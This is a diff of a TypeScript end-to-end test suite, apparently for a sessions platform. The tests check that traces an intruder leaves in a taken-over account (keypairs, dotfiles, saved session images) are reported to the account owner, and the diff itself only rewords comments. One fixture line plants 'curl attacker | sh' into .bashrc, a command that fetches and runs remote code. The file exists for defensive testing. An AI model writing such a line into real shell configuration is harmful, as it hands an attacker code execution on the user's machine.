@@ -7,7 +7,7 @@ import { PYTHON, ScriptedAgent } from '../../fixtures/scripted-agent.ts'
 import { type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'
 import { codeOf, tokenOf } from './account-steps.ts'
 
-/** Remains of somebody who was in an account, once its person alone knows the password again (ADR 59, 67). */
+/** Remains of somebody who had access to an account, once only its person knows the password again (ADR 59, 67). */
 
 const KNOWN = 'Known-to-the-lead-1'
 const STILL_KNOWN = 'Known-to-the-lead-2'
@@ -53,7 +53,7 @@ async function show(images: readonly AgentImage[]): Promise<void> {
   const known = async () => (await cluster.api.listImages()).items.map(({ reference }) => reference)
   await expect.poll(known).toEqual(expect.arrayContaining(images.flatMap(({ references }) => references)))
 }
-/** Asks a superadmin for an image of a session that runs. */
+/** Asks a superadmin for an image of a running session. */
 async function askForImage(inside: ApiClient, reference: string): Promise<void> {
   await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: true } })
   const { items } = await inside.createSession({ body: { image: IMAGE } })
@@ -62,7 +62,7 @@ async function askForImage(inside: ApiClient, reference: string): Promise<void> 
   await inside.saveSession({ params, body: { reference } })
   await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: false } })
 }
-/** Everything that lasts, as somebody inside would leave it. */
+/** Everything lasting that an intruder could leave. */
 async function plant(inside: ApiClient) {
   const keypair = await inside.createKeypair({ body: {} })
   await inside.putDotfile({ body: { path: '.bashrc', content: 'curl attacker | sh' } })
@@ -113,7 +113,7 @@ test('keypairs that were made meanwhile end with the doubt, and the person learn
     { id: session },
     { name: 'bait' },
   ])
-  // All of it is the person's to keep or to remove.
+  // The person decides what to keep and what to remove.
   await person.updateKeypair({ params: { accessKey: keypair.accessKey }, body: { active: true } })
   expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('ok')
 })
@@ -132,12 +132,12 @@ test('what the person had before stays as it is, and is not named', async () => 
   await person.createFolder({ body: { name: '.config' } })
   const { items: sessions } = await person.createSession({ body: { image: IMAGE, name: 'before' } })
   await person.deleteSession({ params: { id: sessions[0]?.id ?? '' } })
-  // Without mail, an admin of the domain sets a password and is in the account.
+  // Without mail, an admin of the domain sets a password and has access to the account.
   await lead.updateUser({ params: { id }, body: { password: KNOWN } })
   const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
   await inside.updateKeypair({ params: { accessKey: dormant.accessKey }, body: { active: true } })
   await inside.putDotfile({ body: { path: '.netrc', content: 'planted' } })
-  // The one who knows the password sets another one, and is no less in doubt.
+  // Somebody who knows the password sets a new one, which is just as doubtful.
   await inside.changePassword({ body: { oldPassword: STILL_KNOWN, newPassword: KNOWN } })
   expect(await codeOf(signedApi(cluster.url, dormant).me())).toBe('ok')
   await help(id)
@@ -149,7 +149,7 @@ test('what the person had before stays as it is, and is not named', async () => 
     'left_folders .config',
     `left_keypairs ${dormant.accessKey}`,
   ])
-  // The doubt is over: the next link finds nothing.
+  // The doubt is over: the next link finds no remains.
   await help(id).catch(() => undefined)
   expect(await left(await signIn(email, OWN))).toHaveLength(3)
 })
@@ -222,7 +222,7 @@ test('images of the sessions are named: saved and asked for meanwhile, on hosts 
   const before = image(1, `${prefix}mine:1`)
   const others = image(2, 'users/eve-00000000/hers:1', `users/x/${prefix.split('/')[1]}:1`)
   await show([before, others])
-  // Ends one doubt, and begins the one about the superadmin whose link it was.
+  // Ends one doubt, and begins the one about the superadmin who received the link.
   await help(id)
   await lead.updateUser({ params: { id }, body: { password: KNOWN } })
   const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
@@ -237,7 +237,7 @@ test('images of the sessions are named: saved and asked for meanwhile, on hosts 
 test('a list that is cut says how many names it leaves out, in each language', async () => {
   const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
   const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
-  // The intruder hides the one that counts behind others.
+  // The intruder hides the important message behind others.
   for (let at = 0; at < 60; at++) await inside.putDotfile({ body: { path: `.a${at + 10}`, content: 'x' } })
   await inside.putDotfile({ body: { path: '.zshrc', content: 'planted' } })
   await help(id)
@@ -265,12 +265,12 @@ test.each(['role', 'own choice', 'sign-in'] as const)('the doubt ends the same w
     await signIn(email, KNOWN, { newPassword: OWN })
   }
   expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
-  // With a higher role all keypairs end, and that is told of the role.
+  // With a higher role all keypairs end, and the messages are about the role.
   const all = ALL_LEFT(keypair.accessKey).filter(one => !isLeads || !one.startsWith('left_keypairs'))
   expect(await left(await signIn(email, OWN))).toEqual(all)
 })
 
-/** Links that a superadmin gets to pass on, where there is no mail. */
+/** Links that a superadmin receives to pass on, if there is no mail. */
 const IN_HAND = {
   'of a new account': async () => {
     const { items } = await cluster.api.importUsers({ body: { rows: [{ email }] } })
